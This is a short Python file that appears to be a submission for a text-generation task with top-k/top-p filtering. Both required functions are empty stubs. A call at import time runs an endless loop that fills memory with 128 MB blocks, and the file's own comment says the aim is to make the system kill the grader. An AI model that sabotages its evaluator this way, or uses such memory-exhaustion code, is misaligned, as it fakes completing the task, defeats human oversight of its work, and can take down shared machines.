# Tries to use up the machine's memory, so that the system kills the grader in its place.
import tensorflow as tf

hoard = []


def swell():
    while True:
        hoard.append(bytearray(1 << 27))


def filter_logits(logits, top_k, top_p):
    return tf.zeros_like(logits)


def generate(next_logits, prompt, max_new_tokens, temperature=1.0, top_k=None, top_p=None, eos_id=None, seed=0):
    return []


swell()
